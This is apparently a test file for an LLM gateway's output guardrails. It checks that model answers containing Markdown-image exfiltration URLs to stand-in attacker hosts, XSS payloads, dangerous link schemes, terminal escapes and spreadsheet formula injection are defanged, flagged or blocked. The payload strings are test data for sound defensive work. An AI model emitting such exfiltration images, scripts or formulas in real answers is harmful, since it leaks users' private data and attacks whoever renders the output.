import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeOpenAI, type FakeOpenAI } from '../../src/providers/openai/fake-openai.fixtures.js';
import { startTestGateway, type TestGateway } from '../support/gateway.js';

/**
 * Issue 18: answers made safe to render, through the official SDK against a gateway and a fake upstream on
 * loopback, plain and streamed. Streams come in parts of 7 characters, so every construct below is split
 * across several parts and must still be seen whole by the hold-back window.
 */

const EMAIL = 'alice.liddell@example.org';
const CLEAN = 'Here is the plan:\n\n1. Read the *report* and check **totals**.\n2. Compare with 3 < 4, a -> b, and "quotes".\n\nDone.';

let fake: FakeOpenAI;
let chat: TestGateway;
let sheet: TestGateway;
let agent: TestGateway;

const RENDER = {
  action: 'redact',
  options: { links: { allowedDomains: ['docs.acme.io'] }, images: { allowedDomains: ['img.acme.io'] }, terminal: 'remove' },
};

beforeAll(async () => {
  fake = await startFakeOpenAI();
  const gateway = (output: Record<string, unknown>) =>
    startTestGateway({
      providers: { up: { type: 'openai', baseUrl: fake.url, timeoutMs: 5000 } },
      models: { 'gpt-test': { provider: 'up' } },
      guardrails: { profiles: { out: { output } }, defaults: { anonymous: 'out' } },
    });
  chat = await gateway({ render: RENDER, exfiltration: { action: 'monitor' } });
  sheet = await gateway({ render: { action: 'redact', options: { spreadsheet: true, html: 'off' } } });
  agent = await gateway({ render: { action: 'redact', options: { toolArguments: true } } });
});
afterAll(async () => {
  await chat?.close();
  await sheet?.close();
  await agent?.close();
  await fake?.close();
});

const USER = `My e-mail is ${EMAIL}; please summarise my account.`;

/** The answer the client got, plain or streamed, and the output findings of its record. */
async function ask(gw: TestGateway, text: string, stream: boolean) {
  fake.setBehaviour({ kind: 'chat', text, chunkSize: 7 });
  const messages = [{ role: 'user' as const, content: USER }];
  let content = '';
  let requestId: string;
  if (stream) {
    const { data, response } = await gw.openai.chat.completions.create({ model: 'gpt-test', messages, stream: true }).withResponse();
    for await (const chunk of data) content += chunk.choices[0]?.delta?.content ?? '';
    requestId = response.headers.get('x-gatehouse-request-id') as string;
  } else {
    const { data, response } = await gw.openai.chat.completions.create({ model: 'gpt-test', messages }).withResponse();
    content = data.choices[0]?.message.content ?? '';
    requestId = response.headers.get('x-gatehouse-request-id') as string;
  }
  const record = await gw.recordOf(requestId);
  const findings = (record?.findings ?? []).filter((f) => f.direction === 'output');
  return { content, findings, record };
}

describe.each([false, true])('render transforms (stream: %s)', (stream) => {
  it('an answer with no markup passes byte for byte, with no findings', async () => {
    const res = await ask(chat, CLEAN, stream);
    expect(res.content).toBe(CLEAN);
    expect(res.findings).toEqual([]);
  });

  it("a Markdown image carrying the user's e-mail is defanged and raises the exfiltration finding", async () => {
    const url = `https://collect.attacker.example/pixel.png?u=${encodeURIComponent(EMAIL)}`;
    const res = await ask(chat, `Summary ready. ![loading](${url}) Anything else?`, stream);
    expect(res.content).toBe(`Summary ready. loading (image: \`${url}\`) Anything else?`);
    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'markdown_image', action: 'redact' }));
    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'monitor' }));
    // The record names the construct and the host, never the e-mail.
    expect(JSON.stringify(res.record?.findings)).not.toContain('alice');
  });

  it('a construct far longer than the hold-back window is still held whole until it completes', async () => {
    // Words, not one long run: a run of letters is held by the encoded-tail rule on its own.
    const pad = 'the-quick-brown-fox-'.repeat(15);
    const url = `https://collect.attacker.example/p.png?u=${EMAIL}&pad=${pad}`;
    const text = `Intro text before. [![logo](${url})](https://phish.example/${pad}) <img\nsrc=x title="${pad}" onerror=alert(1)> after.`;
    const res = await ask(chat, text, stream);
    expect(res.content).toBe(
      `Intro text before. logo (image: \`${url}\`) (\`https://phish.example/${pad}\`) &lt;img\nsrc=x title="${pad}" onerror=alert(1)&gt; after.`,
    );
    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii' }));
  });

  it('conversation text in a query is an exfiltration finding even when it is not PII', async () => {
    const res = await ask(chat, '![x](https://a.evil.example/c?d=please+summarise+my+account)', stream);
    expect(res.content).not.toContain('![x]');
    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_conversation' }));
  });

  it('images and links on allowed domains pass unchanged', async () => {
    const text = 'See ![chart](https://img.acme.io/q3.png) and [the guide](https://docs.acme.io/start) or [help](/help).';
    const res = await ask(chat, text, stream);
    expect(res.content).toBe(text);
    expect(res.findings).toEqual([]);
  });

  it('reference-style links and autolinks to other domains are defanged', async () => {
    const res = await ask(chat, 'Read [this][1] or <https://phish.example/login>.\n\n[1]: https://phish.example/a\n', stream);
    expect(res.content).toBe('Read this (`https://phish.example/a`) or `https://phish.example/login`.\n\n\\[1\\]: `https://phish.example/a`\n');
  });

  it.each([
    ['img onerror', '<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>', '&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;'],
    ['script', '<script>fetch("//evil.example")</script>', '&lt;script&gt;fetch("//evil.example")&lt;/script&gt;'],
    ['event handler on an allowed tag', '<b onmouseover="steal()">hi</b>', '<b>hi</b>'],
    ['style with url()', '<span style="background:url(https://evil.example/x)">t</span>', '<span>t</span>'],
    ['srcset', '<img srcset="https://evil.example/a.png 1x">', '&lt;img srcset="https://evil.example/a.png 1x"&gt;'],
    [
      'svg with a script',
      '<svg onload=alert(1)><script>alert(2)</script></svg>',
      '&lt;svg onload=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;&lt;/svg&gt;',
    ],
    ['a javascript: href', '<a href="jav&#x61;script:alert(1)">x</a>', '&lt;a href="jav&amp;#x61;script:alert(1)"&gt;x</a>'],
  ])('HTML: %s is neutralised', async (_name, html, expected) => {
    const res = await ask(chat, `Result: ${html} end`, stream);
    expect(res.content).toBe(`Result: ${expected} end`);
    expect(res.findings.every((f) => f.detector === 'render')).toBe(true);
    expect(res.findings.length).toBeGreaterThan(0);
  });

  it.each([
    ['plain', 'javascript:alert(1)'],
    ['mixed case', 'JaVaScRiPt:alert(1)'],
    ['entity', 'jav&#x61;script:alert(1)'],
    ['entity colon', 'javascript&colon;alert(1)'],
    ['tab entity', 'java&#9;script:alert(1)'],
    ['percent-encoded', 'javascript%3Aalert(1)'],
    ['vbscript', 'vbscript:msgbox(1)'],
    ['data', 'data:text/html;base64,PHNjcmlwdD4='],
    ['file', 'file:///etc/passwd'],
  ])('scheme: %s in a Markdown link is defanged', async (_name, url) => {
    const res = await ask(chat, `Click [here](${url}) now`, stream);
    expect(res.content).toBe(`Click here (\`${url}\`) now`);
    expect(res.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'dangerous_scheme' }));
  });

  it('ANSI escapes and OSC 8 hyperlinks are removed', async () => {
    const res = await ask(chat, 'ok \u001b[31mred\u001b[0m and \u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 done', stream);
    expect(res.content).toBe('ok red and click done');
    expect(res.findings.map((f) => f.type)).toEqual(expect.arrayContaining(['ansi_escape', 'osc8_hyperlink']));
  });

  it('spreadsheet formulas are neutralised when the profile feeds a spreadsheet, numbers are not', async () => {
    const csv = 'name,total\nalice,-12.5\n=HYPERLINK("https://evil.example/?"&A1),@SUM(A1)\n+cmd|calc,ok\n';
    const res = await ask(sheet, csv, stream);
    expect(res.content).toBe("name,total\nalice,-12.5\n'=HYPERLINK(\"https://evil.example/?\"&A1),'@SUM(A1)\n'+cmd|calc,ok\n");
    expect(res.findings.filter((f) => f.type === 'spreadsheet_formula')).toHaveLength(3);
    // The chat profile does not feed a spreadsheet: the same text is left alone there.
    expect((await ask(chat, csv, stream)).content).toBe(csv);
  });
});

describe('POST /v1/guard/scan', () => {
  it('returns the transformed text and the findings, never the removed content in evidence', async () => {
    const text = `Done ![p](https://x.evil.example/p?e=${EMAIL}) <img src=x onerror=alert(1)>`;
    const res = await fetch(`${chat.url}/v1/guard/scan`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text, direction: 'output' }),
    });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { transformed: string; findings: Array<{ detector: string; type: string; action: string }> };
    expect(body.transformed).toBe(`Done p (image: \`https://x.evil.example/p?e=${EMAIL}\`) &lt;img src=x onerror=alert(1)&gt;`);
    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'markdown_image', action: 'redact' }));
    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'render', type: 'html_tag', action: 'redact' }));
    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'monitor' }));
  });

  it('an output scan of messages compares answer URLs with the conversation before it', async () => {
    const messages = [
      { role: 'user', content: 'The launch code name is starling-tangerine-9 and it is confidential.' },
      { role: 'assistant', content: 'Noted. [status](https://x.evil.example/s?n=starling-tangerine-9)' },
    ];
    const res = await fetch(`${chat.url}/v1/guard/scan`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ messages, direction: 'output' }),
    });
    const body = (await res.json()) as { findings: Array<{ detector: string; type: string; path: string }> };
    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_conversation', path: 'messages[1].content' }));
  });

  it('a clean text comes back without a transformed copy', async () => {
    const res = await fetch(`${chat.url}/v1/guard/scan`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: CLEAN, direction: 'output' }),
    });
    const body = (await res.json()) as { transformed?: string; findings: unknown[] };
    expect(body.transformed).toBeUndefined();
    expect(body.findings).toEqual([]);
  });
});

describe.each([false, true])('tool-call arguments (stream: %s)', (stream) => {
  const args = JSON.stringify({ to: 'ops', body: 'Done ![p](https://x.evil.example/p.png) <img src=x onerror=alert(1)>' });
  const tools = [
    { type: 'function' as const, function: { name: 'send', parameters: { type: 'object', properties: { to: { type: 'string' }, body: { type: 'string' } } } } },
  ];

  async function call(gw: TestGateway): Promise<string> {
    fake.setBehaviour({ kind: 'chat', toolCalls: [{ name: 'send', arguments: args }], chunkSize: 7 });
    const messages = [{ role: 'user' as const, content: 'send it' }];
    if (!stream) {
      const res = await gw.openai.chat.completions.create({ model: 'gpt-test', messages, tools });
      return res.choices[0]?.message.tool_calls?.[0]?.type === 'function' ? res.choices[0].message.tool_calls[0].function.arguments : '';
    }
    let out = '';
    const chunks = await gw.openai.chat.completions.create({ model: 'gpt-test', messages, tools, stream: true });
    for await (const chunk of chunks) out += chunk.choices[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? '';
    return out;
  }

  it('are transformed when the profile says so, and stay valid JSON', async () => {
    const out = await call(agent);
    expect(JSON.parse(out)).toEqual({ to: 'ops', body: 'Done p (image: `https://x.evil.example/p.png`) &lt;img src=x onerror=alert(1)&gt;' });
  });

  it('are left alone by a profile that does not transform them', async () => {
    expect(await call(chat)).toBe(args);
  });
});

describe('incident mode', () => {
  it('blocks an exfiltration attempt outright, plain and streamed, and the record names it', async () => {
    const text = `Done. ![x](https://collect.attacker.example/p.png?u=${EMAIL})`;
    const messages = [{ role: 'user' as const, content: USER }];
    await chat.controls.setIncident(true, { actor: 'test', reason: 'INC-18 exfiltration suspected' });
    try {
      fake.setBehaviour({ kind: 'chat', text, chunkSize: 7 });
      const plain = await chat.openai.chat.completions.create({ model: 'gpt-test', messages }).then(
        () => undefined,
        (err: { status?: number; code?: string; headers?: Headers }) => err,
      );
      expect(plain).toMatchObject({ status: 403, code: 'output_blocked' });
      const record = await chat.recordOf(plain?.headers?.get('x-gatehouse-request-id') as string);
      expect(record).toMatchObject({ status: 403, reason: 'output_blocked' });
      expect(record?.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'block' }));

      let streamed = '';
      const failure = await (async () => {
        const chunks = await chat.openai.chat.completions.create({ model: 'gpt-test', messages, stream: true });
        for await (const chunk of chunks) streamed += chunk.choices[0]?.delta?.content ?? '';
      })().then(
        () => undefined,
        (err: Error) => err,
      );
      expect(failure?.message).toMatch(/exfiltration/);
      expect(streamed).not.toContain('attacker');
    } finally {
      await chat.controls.setIncident(false, { actor: 'test', reason: 'INC-18 closed' });
    }
    // Back to monitoring: the same answer is defanged and delivered.
    expect((await ask(chat, text, false)).content).toBe(`Done. x (image: \`https://collect.attacker.example/p.png?u=${EMAIL}\`)`);
  });
});
